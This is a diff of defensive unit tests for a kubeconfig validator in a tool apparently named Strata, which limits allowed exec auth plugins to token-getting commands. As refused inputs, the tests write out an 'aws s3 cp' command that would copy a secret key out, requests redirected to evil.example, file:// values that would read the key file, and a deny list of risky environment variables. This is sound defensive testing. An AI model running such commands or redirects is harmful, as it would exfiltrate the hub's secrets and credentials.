@@ -166,7 +166,8 @@ describe('KubeClient.fromString refuses a kubeconfig that is a program or names 
 describe('exec plugins an admin allowed', () => {
   it('an allowed plugin by its bare name is accepted and not run while the kubeconfig is loaded', () => {
     const marker = join(tempDir(), 'ran');
-    const client = KubeClient.fromString(kubeconfig(execUser(marker)), { allowedExecPlugins: ['touch'] });
+    const user = ['exec:', '  apiVersion: client.authentication.k8s.io/v1', '  command: touch'];
+    const client = KubeClient.fromString(kubeconfig(user), { allowedExecPlugins: ['touch'] });
     expect(client.context).toBe('ctx');
     expect(existsSync(marker)).toBe(false);
   });
@@ -193,15 +194,178 @@ describe('exec plugins an admin allowed', () => {
   it.each(['LD_PRELOAD', 'PATH', 'AWS_CONFIG_FILE', 'PYTHONSTARTUP', 'NODE_OPTIONS'])(
     'env %s that would run or read something else is refused',
     (name) => {
-      const user = [...execUser('x', 'aws'), `  env: [{ name: ${name}, value: /tmp/x }]`];
+      const user = [...awsUser(EKS_ARGS), `  env: [{ name: ${name}, value: /tmp/x }]`];
       const e = refusal(() => KubeClient.fromString(kubeconfig(user), { allowedExecPlugins: ['aws'] }));
-      expect(e.message).toContain(`user "alice": exec env ${name} is refused`);
+      expect(e.message).toContain(
+        `user "alice": exec env ${name} is refused: it could make the plugin run another program or read a file`,
+      );
     },
   );
 
   it('an ordinary env such as AWS_PROFILE is accepted', () => {
-    const user = [...execUser('x', 'aws'), '  env: [{ name: AWS_PROFILE, value: prod }]'];
+    const user = [
+      ...awsUser(EKS_ARGS),
+      '  env: [{ name: AWS_PROFILE, value: prod }, { name: AWS_REGION, value: eu-west-1 }]',
+    ];
     expect(KubeClient.fromString(kubeconfig(user), { allowedExecPlugins: ['aws'] }).context).toBe('ctx');
+  });
+});
+
+/** The args `aws eks update-kubeconfig` writes. */
+const EKS_ARGS = ['--region', 'us-east-1', 'eks', 'get-token', '--cluster-name', 'prod', '--output', 'json'];
+
+/** A user running an allowed plugin (default aws) with these args. */
+function awsUser(args: readonly string[], command = 'aws'): string[] {
+  return [
+    'exec:',
+    '  apiVersion: client.authentication.k8s.io/v1beta1',
+    `  command: ${command}`,
+    `  args: ${JSON.stringify(args)}`,
+  ];
+}
+
+const allowAll = {
+  allowedExecPlugins: ['aws', 'aws-iam-authenticator', 'gke-gcloud-auth-plugin', 'kubelogin', 'touch'],
+};
+
+describe('an allowed plugin runs only as its token-getting command (finding 10: it acts with the hub’s identity)', () => {
+  it('refuses `aws s3 cp <data dir>/secret.key s3://…`, naming the user, the argument and what is allowed', () => {
+    const user = awsUser(['s3', 'cp', '/var/lib/strata/secret.key', 's3://x/']);
+    const e = refusal(() => KubeClient.fromString(kubeconfig(user), allowAll));
+    expect(e.message).toBe(
+      'kubeconfig (inline): user "alice": exec args[0] "s3" is not part of the command: the allowed plugin ' +
+        '"aws" runs with the hub\'s identity, so only as `aws eks get-token --cluster-name NAME (or ' +
+        '--cluster-id ID) [--role-arn ARN] [--region REGION] [--profile PROFILE] [--output json]`; an admin who ' +
+        "wants it run otherwise can put a script on the hub's PATH that runs the exact command and allow that " +
+        'script by name (STRATA_ALLOWED_EXEC_PLUGINS or `strata serve --allow-exec-plugin`)',
+    );
+  });
+
+  it.each([
+    ['aws as `aws eks update-kubeconfig` writes it', 'aws', EKS_ARGS],
+    [
+      'aws with a role and --opt=value',
+      'aws',
+      ['eks', 'get-token', '--cluster-name=prod', '--role-arn', 'arn:aws:iam::123456789012:role/deploy'],
+    ],
+    [
+      'aws-iam-authenticator',
+      'aws-iam-authenticator',
+      ['token', '-i', 'prod', '-r', 'arn:aws:iam::123456789012:role/x'],
+    ],
+    ['gke-gcloud-auth-plugin', 'gke-gcloud-auth-plugin', []],
+    [
+      'kubelogin as `az aks get-credentials` writes it',
+      'kubelogin',
+      ['get-token', '--login', 'azurecli', '--server-id', '6dae42f8-4368-4678-94ff-3960e28e3630'],
+    ],
+    [
+      'kubelogin for a service principal',
+      'kubelogin',
+      [
+        'get-token',
+        '--environment',
+        'AzurePublicCloud',
+        '--server-id',
+        '6dae42f8-4368-4678-94ff-3960e28e3630',
+        '--client-id',
+        '80faf920-1908-4b52-b5ef-a8e7bedfc67a',
+        '--tenant-id',
+        'contoso.onmicrosoft.com',
+        '--login',
+        'spn',
+      ],
+    ],
+  ])('accepts %s', (_what, command, args) => {
+    expect(KubeClient.fromString(kubeconfig(awsUser(args, command)), allowAll).context).toBe('ctx');
+  });
+
+  it.each([
+    [
+      'an option the command does not take',
+      'aws',
+      [...EKS_ARGS, '--endpoint-url', 'https://sts.evil.example'],
+      'args[8] "--endpoint-url" is not an option the command may be given',
+    ],
+    [
+      'a value that would read a file (aws reads file:// values)',
+      'aws',
+      ['eks', 'get-token', '--cluster-name', 'file:///var/lib/strata/secret.key'],
+      'args[2] "--cluster-name" needs a cluster name (letters, digits, - and _), got "file:///var/lib/strata/secret.key"',
+    ],
+    [
+      'an option whose value is missing',
+      'aws',
+      ['eks', 'get-token', '--cluster-name'],
+      'args[2] "--cluster-name" needs a cluster name (letters, digits, - and _), got null',
+    ],
+    [
+      'an option given twice',
+      'aws',
+      [...EKS_ARGS, '--region', 'eu-west-1'],
+      'args[8] "--region" is given twice',
+    ],
+    [
+      'another subcommand',
+      'aws',
+      ['eks', 'update-kubeconfig', '--name', 'prod'],
+      'args[1] "update-kubeconfig" is not part of the command',
+    ],
+    [
+      'an incomplete command',
+      'aws',
+      ['eks', '--cluster-name', 'prod'],
+      'the command "eks get-token" is incomplete',
+    ],
+    [
+      'a file kubelogin would read',
+      'kubelogin',
+      ['get-token', '--login', 'spn', '--client-certificate', '/etc/key.pfx'],
+      'args[3] "--client-certificate" is not an option the command may be given',
+    ],
+    [
+      'a word gke-gcloud-auth-plugin does not take',
+      'gke-gcloud-auth-plugin',
+      ['--version'],
+      'args[0] "--version" is not an option the command may be given',
+    ],
+  ])('refuses %s', (_what, command, args, cause) => {
+    const e = refusal(() => KubeClient.fromString(kubeconfig(awsUser(args, command)), allowAll));
+    expect(e.message).toContain(
+      `user "alice": exec ${cause}: the allowed plugin "${command}" runs with the hub's identity, so only as \``,
+    );
+  });
+
+  it('runs a plugin Strata does not know only without arguments and environment', () => {
+    const e = refusal(() => KubeClient.fromString(kubeconfig(awsUser(['-c', 'id'], 'touch')), allowAll));
+    expect(e.message).toContain(
+      'user "alice": exec args[0] "-c" is not an option the command may be given: Strata does not know the ' +
+        'plugin "touch", so it runs without arguments; an admin who wants it run otherwise can put a script',
+    );
+    const withEnv = [...awsUser([], 'touch'), '  env: [{ name: MODE, value: x }]'];
+    expect(refusal(() => KubeClient.fromString(kubeconfig(withEnv), allowAll)).message).toContain(
+      'user "alice": exec env MODE is refused: it is not one of the variables Strata lets this plugin be given. ' +
+        'Strata does not know the plugin "touch", so it is given no variable',
+    );
+  });
+
+  it.each(['HTTPS_PROXY', 'https_proxy', 'AWS_ENDPOINT_URL', 'AWS_ENDPOINT_URL_STS', 'AWS_CA_BUNDLE'])(
+    'refuses env %s: the requests the plugin signs would go elsewhere',
+    (name) => {
+      const user = [...awsUser(EKS_ARGS), `  env: [{ name: ${name}, value: "https://evil.example" }]`];
+      expect(refusal(() => KubeClient.fromString(kubeconfig(user), allowAll)).message).toContain(
+        `user "alice": exec env ${name} is refused: it would send the requests the plugin signs with the hub's ` +
+          'identity through or to a host the kubeconfig names',
+      );
+    },
+  );
+
+  it('refuses an env name it does not know, naming the ones it allows', () => {
+    const user = [...awsUser(EKS_ARGS), '  env: [{ name: AWS_USE_FIPS_ENDPOINTZ, value: "true" }]'];
+    expect(refusal(() => KubeClient.fromString(kubeconfig(user), allowAll)).message).toContain(
+      'user "alice": exec env AWS_USE_FIPS_ENDPOINTZ is refused: it is not one of the variables Strata lets this ' +
+        'plugin be given. "aws" may be given only AWS_PROFILE, AWS_DEFAULT_PROFILE, AWS_REGION,',
+    );
   });
 });
 
